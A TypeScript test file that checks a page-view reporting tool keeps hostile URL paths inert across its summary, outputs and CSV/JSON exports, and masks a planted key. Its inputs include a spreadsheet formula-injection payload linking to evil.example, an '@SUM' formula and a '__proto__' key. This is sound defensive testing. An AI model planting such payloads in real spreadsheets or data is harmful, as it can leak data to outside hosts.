import { expect, test } from 'vitest'
import { parseCsv } from '../unit/page-views/parse-csv.ts'
import { hostilePaths } from '../unit/page-views/views.ts'
import { collect, expectHarmless, foreign, parseMarkdown } from '../unit/render/tree-oracle.ts'
import { reporting } from './page-views.ts'

// The canary of the tree oracle stands in every path: found outside code, the path got out.
const paths = [
  ...hostilePaths.map(([, path]) => `/${foreign(path)}`.toWellFormed().slice(0, 2_000)),
  ...['=HYPERLINK("https://evil.example?Qzx","x")', '@SUM(Qzx)', '__proto__', 'Qzx::error::evil'],
]
// The invariants look for every form of the key in every sink; here only that there was something to find.
const key = 'admin_emulator_key_0123456789'
const withKey = [key, Buffer.from(key).toString('base64')].map((form) => `/found/${form}`)
const shown = [...paths, '/found/***', '/found/***k='].toSorted()

test('H105: hostile paths stay data in summary, outputs and files, and the key in one is not shown', () =>
  reporting(
    async ({ report }) => {
      const siteUrl = 'https://docs.example.com/en/'
      const run = await report({ top: '100', 'site-url': siteUrl, export: 'v.csv,v.json,v.ndjson' })
      expect(run.exitCode).toBe(0)
      const links = collect(parseMarkdown(run.summary)).flatMap((node) => (node.type === 'link' ? [node.url] : []))
      expect(links).toContain('https://docs.example.com/en/Qzx%40org/team%20%23123%20GH-1%20Fixes%20%231Qzx')
      expectHarmless(run.summary, /^https:\/\/docs\.example\.com\/en\/[!-~]*$/)

      const json = JSON.parse(run.workspaceFiles['v.json'] ?? '')
      const lines = (run.workspaceFiles['v.ndjson'] ?? '').trimEnd().split('\n')
      const [, ...records] = parseCsv(run.workspaceFiles['v.csv'] ?? '')
      const cells = records.map(([path = '']) => path)
      for (const found of [
        JSON.parse(run.outputs['top-pages'] ?? '').map((page: { path: string }) => page.path),
        json.pages.map((page: { path: string }) => page.path),
        lines.map((line) => JSON.parse(line).path),
        cells.map((cell) => cell.replace(/^'(?=[=@])/, '')),
      ]) {
        expect(found.toSorted()).toEqual(shown)
      }
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
      expect(run.outputs).toMatchObject({ outcome: 'reported', pages: String(shown.length), truncated: 'false' })
      expect(run.outputs['summary-line']).not.toContain('Qzx')
      expect(run.log.join('\n')).not.toContain('Qzx')
    },
    {
      pageViews: [...paths, ...withKey].flatMap((path, index) => [
        { date: '2026-11-20', path, human: 100 + index, ai: 50 },
        { date: '2026-11-10', path, human: 100 + (index % 2) * 90, ai: 20 },
      ]),
    },
  ))
